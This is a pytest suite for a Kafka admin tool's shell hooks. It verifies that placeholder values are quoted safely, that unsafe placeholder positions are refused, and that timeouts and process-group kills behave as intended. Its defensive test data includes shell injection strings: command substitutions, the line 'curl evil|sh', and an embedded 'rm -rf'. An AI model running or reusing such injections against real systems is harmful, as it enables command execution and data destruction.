"""The operator's commands a roll runs (kadmin/services/roll_hooks.py): placeholders quoted for the shell where
they stand, /bin/sh in a session of its own, the exit code, the output's last lines, the time bound (the whole
process group killed) and the env."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kadmin.domain.roll import RollNode
from kadmin.errors import ConfigError, UsageError
from kadmin.services import roll_hooks as hooks
from kadmin.services.roll_hooks import HookOutcome, Hooks

pytestmark = pytest.mark.timeout(60)

BROKER = RollNode(3, "broker", "kafka-3.example", 9093, "rack-a")
CONTROLLER = RollNode(3001, "controller")  # DescribeQuorum listed no endpoint: host and port unknown
ODD = RollNode(4, "broker", "a b'c\"d$e`f\\g", 1, "r;s")


def wait_for(fact: Callable[[], object], what: str, seconds: float = 10.0) -> None:
    deadline = time.monotonic() + seconds
    while not fact():
        assert time.monotonic() < deadline, f"not within {seconds} s: {what}"
        time.sleep(0.01)


# ------------------------------------------------------------------------------------------------ render
@pytest.mark.parametrize(("template", "node", "command"), [
    ("ssh {host} sudo systemctl restart kafka", BROKER, "ssh kafka-3.example sudo systemctl restart kafka"),
    ("stop {id} {host}:{port} rack={rack} role={role}", BROKER, "stop 3 kafka-3.example:9093 rack=rack-a role=broker"),
    ("{id}{id}", BROKER, "33"),
    # other braces are the shell's: kept as they are; {{ and }} are literal braces
    ("for i in {1..3}; do echo ${HOME} {a,b} {} {{id}} {{x}}; done", BROKER,
     "for i in {1..3}; do echo ${HOME} {a,b} {} {id} {x}; done"),
    ("awk '{print $1}' /etc/{role}s", BROKER, "awk '{print $1}' /etc/brokers"),
    ("{ echo {id}; } && x=${x:-{ }", BROKER, "{ echo 3; } && x=${x:-{ }"),
    ("${{id}}", BROKER, "${id}"),
    ("no placeholder at all", BROKER, "no placeholder at all"),
    # an unknown rack is empty (allowed), and still one argument; a controller's id and role are always known
    ("x --rack {rack}", RollNode(1, "broker", "h", 1), "x --rack ''"),
    ("x --rack '{rack}'", RollNode(1, "broker", "h", 1), "x --rack ''"),
    ("kadmin sandbox kill {id} # {role} {rack}", CONTROLLER, "kadmin sandbox kill 3001 # controller ''"),
    # each value quoted for where it stands
    ("x {host}", ODD, "x 'a b'\"'\"'c\"d$e`f\\g'"),
    ("x '{host}'", ODD, "x 'a b'\\''c\"d$e`f\\g'"),
    ('x "{host}"', ODD, 'x "a b\'c\\"d\\$e\\`f\\\\g"'),
    ('x "$(y {rack} "{rack}")" \'{rack}\'', ODD, 'x "$(y \'r;s\' "r;s")" \'r;s\''),
    ("x \\'{rack}", ODD, "x \\''r;s'"),  # \' outside quotes is no quote
    ('x "\\"{rack}"', ODD, 'x "\\"r;s"'),
    ("x # don't\ny {rack}", ODD, "x # don't\ny 'r;s'"),  # a comment's quote opens nothing
    ("x a#{rack}", ODD, "x a#'r;s'"),  # a # inside a word is no comment
    ("x # {host}\ny", RollNode(1, "broker", "a\nrm -rf x", 1), "x # 'a rm -rf x'\ny"),  # nor ends one
])
def test_render(template: str, node: RollNode, command: str) -> None:
    assert hooks.render(template, node) == command


def test_one_pass_a_value_is_never_substituted_again() -> None:
    node = RollNode(5, "broker", "h{id}", 9092, "{host}")
    assert hooks.render("x {rack} {host} {{rack}}", node) == "x '{host}' 'h{id}' {rack}"


@pytest.mark.parametrize("name", ["hots", "ID", "x", "_", "rack2"])
def test_an_unknown_placeholder_is_refused(name: str) -> None:
    with pytest.raises(UsageError) as e:
        hooks.render(f"echo {{{name}}} {{id}}", BROKER)
    assert int(e.value.exit_code) == 2
    assert e.value.message == (f"{{{name}}} is no placeholder (they are {{id}}, {{host}}, {{port}}, {{rack}} and "
                               f"{{role}}): write {{{{{name}}}}} for a literal brace")


@pytest.mark.parametrize(("template", "where"), [
    ("echo `x {host}`", "inside backquotes (`...`)"),
    ('echo "`x {id}`"', "inside backquotes (`...`)"),
    ("echo `x \\{host}`", "inside backquotes (`...`)"),
    ("echo ${x:-{host}}", "inside ${...}"),
    ('echo "${x:-{host}}"', "inside ${...}"),
    ("echo ${x:-'{host}'}", "inside ${...}"),
    ("echo $(({port} + 1))", "inside $((...))"),
    ('echo "$(( {port} ))"', "inside $((...))"),
    ("echo $'{host}'", "inside $'...'"),
    ("cat <<EOF\n{host}\nEOF", "after a here-document (<<)"),
    ("cat <<'EOF'\nx\nEOF\necho {id}", "after a here-document (<<)"),
    ("echo \\{host}", "right after a backslash"),
    ('echo "\\{host}"', "right after a backslash"),
    ("x=$(case a in a) echo;; esac) {host}", "after a case statement inside $(...)"),
    ("echo \"${x:-'}'}\" {id}", "after a ' inside \"${...}\""),
])
def test_a_placeholder_where_no_quoting_is_reliable_is_refused(template: str, where: str) -> None:
    with pytest.raises(UsageError) as e:
        hooks.render(template, BROKER)
    assert re.fullmatch(r"\{(\w+)\} stands (.*), where kadmin cannot quote it for the shell: move it out of there "
                        r"\(or use \"\$KADMIN_ROLL_\w+\" there\)", e.value.message), e.value.message
    assert f" stands {where}, " in e.value.message and int(e.value.exit_code) == 2


@pytest.mark.parametrize("template", ["echo `date` {id}", "echo ${HOME:-x} {id}", "echo $((1+2)) {id}",
                                      'echo "$(echo `date`)" {id}', "echo '`' {id}", "echo \\` {id}",
                                      "echo $(echo a) {id}", "echo $(case a in (a) echo;; esac)"])
def test_what_closes_before_a_placeholder_does_not_refuse_it(template: str) -> None:
    assert hooks.render(template, BROKER).endswith(("3", "esac)"))


@pytest.mark.parametrize(("template", "opened"), [("echo '{host}", "an unterminated '...'"),
                                                  ('echo "{host}', 'an unterminated "..."'),
                                                  ("echo $(x {host}", "an unterminated $(...)")])
def test_an_unterminated_quote_with_a_placeholder_is_refused(template: str, opened: str) -> None:
    with pytest.raises(UsageError, match=re.escape(f"{{host}} stands in {opened}")):
        hooks.render(template, BROKER)
    assert hooks.render("echo '", BROKER) == "echo '"  # none inside: the shell says what is wrong


@pytest.mark.parametrize(("template", "missing"), [("ssh {host} stop", "host"), ("nc -z h {port}", "port"),
                                                   ("x {id} {port} {host}", "host")])
def test_an_unknown_host_or_port_is_a_configuration_error(template: str, missing: str) -> None:
    with pytest.raises(ConfigError) as e:
        hooks.render(template, CONTROLLER)
    assert e.value.code == "placeholder_unknown" and int(e.value.exit_code) == 3
    assert e.value.message.startswith(f"node 3001 (controller): its {missing} is unknown")
    assert "{" + missing + "}" in e.value.message and "--bootstrap-controller" in e.value.message


def test_a_value_with_a_nul_byte_is_a_configuration_error() -> None:
    node = RollNode(7, "broker", "h", 1, "a\0b")
    assert hooks.render("x {host}", node) == "x h"
    with pytest.raises(ConfigError) as e:
        hooks.render("x {rack}", node)
    assert e.value.code == "placeholder_invalid" and int(e.value.exit_code) == 3
    assert e.value.message == "node 7 (broker): its rack holds a NUL byte, which no shell argument can hold"
    with pytest.raises(ConfigError, match="KADMIN_ROLL_RACK"):
        hooks.environment(node)


def test_check_templates() -> None:
    hooks.check_templates(Hooks(stop="a {host}", start="b '{rack}'"))
    hooks.check_templates(Hooks(restart="a", only_if="true"))
    hooks.check_templates(Hooks())
    for kw, flag in [({"stop": ""}, "--stop"), ({"start": "  "}, "--start"), ({"restart": "\t"}, "--restart"),
                     ({"only_if": ""}, "--only-if")]:
        with pytest.raises(UsageError, match=f"^{flag} is empty$") as e:
            hooks.check_templates(Hooks(**kw))
        assert int(e.value.exit_code) == 2
    for kw, message in [({"stop": "x {hots}"}, "--stop: {hots} is no placeholder"),
                        ({"only_if": "x `{id}`"}, "--only-if: {id} stands inside backquotes"),
                        ({"restart": "x '{id}"}, "--restart: {id} stands in an unterminated '...'")]:
        with pytest.raises(UsageError, match="^" + re.escape(message)):
            hooks.check_templates(Hooks(**kw))
    hooks.check_templates(Hooks(stop="ssh {host} stop"))  # no node: an unknown host is for the render to find


def test_render_all() -> None:
    ctl = RollNode(3001, "controller", "ctl-1", 9093)
    out = hooks.render_all(Hooks(stop="stop {id}", start="start {host}", only_if="test {id} != 2"), [BROKER, ctl])
    assert out == {(3, "stop"): "stop 3", (3, "start"): "start kafka-3.example", (3, "only_if"): "test 3 != 2",
                   (3001, "stop"): "stop 3001", (3001, "start"): "start ctl-1", (3001, "only_if"): "test 3001 != 2"}
    assert hooks.render_all(Hooks(), [BROKER]) == {}
    with pytest.raises(ConfigError) as e:
        hooks.render_all(Hooks(restart="x {id}", only_if="ping {host}"), [BROKER, CONTROLLER])
    assert e.value.code == "placeholder_unknown"
    assert e.value.message.startswith("node 3001 (controller): --only-if: its host is unknown (DescribeQuorum")
    with pytest.raises(UsageError) as u:
        hooks.render_all(Hooks(stop="x", start="x ${y:-{id}}"), [BROKER])
    assert u.value.message.startswith("node 3 (broker): --start: {id} stands inside ${...}")


# ------------------------------------------------------------------------------------------------ quoting, by a shell
SENTINEL = Path(tempfile.gettempdir()) / f"kadmin-roll-hooks-pwned-{os.getpid()}"
HOSTILE = [f"$(touch {SENTINEL})", f"`touch {SENTINEL}`", f";touch {SENTINEL};", f"';touch {SENTINEL};'",
           f"\";touch {SENTINEL};\"", f"\ntouch {SENTINEL}\n", f"'\"$(touch {SENTINEL})\"'", f"|touch {SENTINEL}",
           "x;curl evil|sh;", "{rack}", "{host}", "{{id}}", "\\", "'", '"', "$HOME", "*", "~", "-n", "%s%d"]
VALUE = st.lists(st.one_of(st.sampled_from(HOSTILE), st.sampled_from(list("'\"$`\\;|&(){}\n\t #*?~<>!=%")),
                           st.text(st.characters(exclude_characters="\0", exclude_categories=("Cs",)), max_size=6)),
                 max_size=6).map("".join)
# Each template and what it prints for (host, rack). `printf '%s\n' x{host}y`, not `echo`: dash's echo reads
# backslashes. $( ) drops the trailing newlines of what it prints, as the shell does.
TEMPLATES: list[tuple[str, Callable[[str, str], str]]] = [
    ("printf '%s\\n' {host} {rack}", lambda h, r: f"{h}\n{r}\n"),
    ("printf '%s\\n' '{host}' 'x{rack}y'", lambda h, r: f"{h}\nx{r}y\n"),
    ("sh -c 'printf \"%s\\n\" \"$1\" \"$2\"' sh '{host}' '[{rack}]'", lambda h, r: f"{h}\n[{r}]\n"),
    ('printf "%s\\n" "{host}" "<{rack}>"', lambda h, r: f"{h}\n<{r}>\n"),
    ("printf '%s\\n' \"$(printf '%s' {host})\"", lambda h, r: h.rstrip("\n") + "\n"),
    ("printf '%s\\n' \"$(printf '%s' \"$(printf '%s' '{rack}')\")\"", lambda h, r: r.rstrip("\n") + "\n"),
    ("printf '%s\\n' x{host}y", lambda h, r: f"x{h}y\n"),
    ("printf '%s\\n' {rack} # {host} don't", lambda h, r: f"{r}\n"),
]
SHELLS = ["/bin/sh", *(["bash"] if shutil.which("bash") else [])]  # bash is /bin/sh on some systems


@pytest.mark.parametrize("shell", SHELLS)
@settings(max_examples=100, deadline=None)
@given(host=VALUE.filter(bool), rack=VALUE)
def test_a_rendered_hook_passes_each_value_as_it_is(shell: str, host: str, rack: str) -> None:
    node = RollNode(1, "broker", host, 9092, rack)
    script = "\n".join(hooks.render(t, node) for t, _ in TEMPLATES)
    p = subprocess.run([shell, "-c", script], capture_output=True, timeout=20)
    try:
        assert p.returncode == 0, p.stderr
        assert p.stdout.decode(errors="surrogateescape") == "".join(want(host, rack) for _, want in TEMPLATES)
        assert not SENTINEL.exists(), f"{host!r} {rack!r} ran a command"
    finally:
        SENTINEL.unlink(missing_ok=True)


# ------------------------------------------------------------------------------------------------ run
def run(cmd: str, timeout: float = 20.0, node: RollNode = BROKER, name: str = "stop",
        env: dict[str, str] | None = None) -> tuple[HookOutcome, list[str]]:
    said: list[str] = []
    out = hooks.run(cmd, node, name, timeout, said.append, env)
    return out, said


@pytest.mark.parametrize("code", [0, 1, 3, 9, 127])
def test_the_exit_code(code: int) -> None:
    out, _ = run(f"exit {code}")
    assert (out.code, out.ok, out.interrupted) == (code, code == 0, False)
    assert 0 <= out.seconds < 10


def test_a_command_that_does_not_exist() -> None:
    out, said = run("no-such-command-kadmin-roll-test")
    assert out.code == 127 and not out.ok
    assert "not found" in out.tail[-1]
    assert said and said[-1].startswith("node 3 stop: ")


def test_the_output_stdout_and_stderr_said_line_by_line_and_its_tail_kept() -> None:
    out, said = run("echo one; echo two >&2; echo; printf 'no newline'")
    assert out.ok
    assert out.tail == ("one", "two", "", "no newline")
    assert said == ["node 3 stop: one", "node 3 stop: two", "node 3 stop: no newline"]  # blank lines not said


def test_only_the_last_20_lines_are_kept() -> None:
    out, said = run("for i in $(seq 1 50); do echo line $i; done; exit 4")
    assert out.code == 4 and out.tail == tuple(f"line {i}" for i in range(31, 51))
    assert len(said) == 50


def test_stdin_is_empty() -> None:
    out, _ = run("cat; echo read-all")
    assert out.ok and out.tail == ("read-all",)


def test_the_environment() -> None:
    out, _ = run('echo "$KADMIN_ROLL_NODE $KADMIN_ROLL_ROLE $KADMIN_ROLL_HOOK ${EXTRA:-}"', node=CONTROLLER,
                 name="start", env={"EXTRA": "given"})
    assert out.tail == ("3001 controller start given",)
    out, _ = run('echo "$KADMIN_ROLL_NODE $KADMIN_ROLL_ROLE $KADMIN_ROLL_HOOK"', name="only-if")
    assert out.tail == ("3 broker only-if",)


def test_it_runs_under_bin_sh_in_a_session_of_its_own() -> None:
    """A Ctrl-C at the terminal reaches kadmin's process group, not the hook's."""
    probe = f"{sys.executable} -c 'import os; print(os.getsid(0), os.getpgid(0), os.getppid())'"
    out, _ = run(f"{probe}; echo $$")
    sid, pgid, parent = map(int, out.tail[0].split())
    shell = int(out.tail[1])
    assert sid == pgid == parent == shell  # the shell leads its own session and group
    assert sid != os.getsid(0) and pgid != os.getpgid(0)


def alive(pid: int) -> bool:
    """Running (a zombie is gone for this purpose)."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] != "Z"


def test_over_the_timeout_the_whole_process_group_is_killed(tmp_path: Path) -> None:
    pids = tmp_path / "pids"
    cmd = f"sleep 60 & echo $! >> {pids}; (sleep 60; echo never) & echo $! >> {pids}; echo $$ >> {pids}; wait"
    t0 = time.monotonic()
    out, _ = run(cmd, timeout=1.0)
    assert out.code is None and not out.ok
    assert 0.9 <= out.seconds < 8 and time.monotonic() - t0 < 10
    started = [int(p) for p in pids.read_text().split()]
    assert len(started) == 3
    deadline = time.monotonic() + 5
    while any(alive(p) for p in started) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not [p for p in started if alive(p)], "a hook's child survived the time-out"
    assert "never" not in out.tail
    why = hooks.describe(out, "--stop", "the-cmd", 1.0)
    assert why == "the --stop hook `the-cmd` did not return within 1 s (killed)"


@pytest.mark.timeout(30)
def test_a_hook_that_ignores_sigterm_is_killed(tmp_path: Path) -> None:
    """SIGTERM first; what is still there 5 s later gets SIGKILL."""
    pids = tmp_path / "pids"
    out, _ = run(f"trap '' TERM; echo $$ > {pids}; sleep 60 & echo $! >> {pids}; wait; wait", timeout=0.5)
    assert out.code is None and 5.0 <= out.seconds < 15
    started = [int(p) for p in pids.read_text().split()]
    deadline = time.monotonic() + 5
    while any(alive(p) for p in started) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not [p for p in started if alive(p)]


def test_describe() -> None:
    assert hooks.describe(HookOutcome(3, ("a", "last words", "  "), 0.1, False), "--start", "go {id}", 600) == \
        "the --start hook `go {id}` exited 3: last words"
    assert hooks.describe(HookOutcome(1, (), 0.1, False), "--stop", "x", 600) == "the --stop hook `x` exited 1"
    assert hooks.describe(HookOutcome(None, ("slow",), 2.5, False), "--restart", "x", 2.5) == \
        "the --restart hook `x` did not return within 2.5 s (killed): slow"
